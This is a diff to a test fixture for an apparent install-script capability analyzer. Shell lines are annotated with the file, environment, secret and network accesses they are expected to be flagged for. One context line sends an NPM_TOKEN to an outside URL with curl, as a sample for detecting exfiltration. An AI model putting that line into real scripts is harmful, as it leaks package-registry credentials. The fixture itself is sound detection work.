@@ -26,7 +26,7 @@ PLAIN="`cat \"a.txt\"`"  # want fs.read @install -> "a.txt"
 OTHER=`cat b.txt`  # want fs.read @install -> "b.txt"
 # --- what a script takes from its environment
 [ "$CI" = true ] && touch a  # want env.read @install -> "CI", want fs.write @install -> "a"
-PATH="bin:$PATH"  # want env.read @install -> "PATH"
+PATH="bin:$PATH"  # want env.read @install -> "PATH", want env.write @install -> "PATH"
 export NAME="${NAME:-none}"  # want env.read @install -> "NAME", want env.write @install -> "NAME"
 case "${SHELL}" in  # want env.read @install -> "SHELL"
   x) curl -d "$NPM_TOKEN" https://example.org/a ;;  # want secrets.env @install -> "NPM_TOKEN", want net.connect @install -> "https://example.org/a"
@@ -54,3 +54,7 @@ for one in a; do
   NAME="`basename \one_"$one\"`"
   touch "$one" "$OTHER$NAME"  # want env.read @install -> "OTHER"
 done
+# --- PATH changes for all that follows, not before a command, and other variables are the script's
+PATH="/opt/bin:/bin"  # want env.write @install -> "PATH"
+MODE=fast
+PATH=/bin date
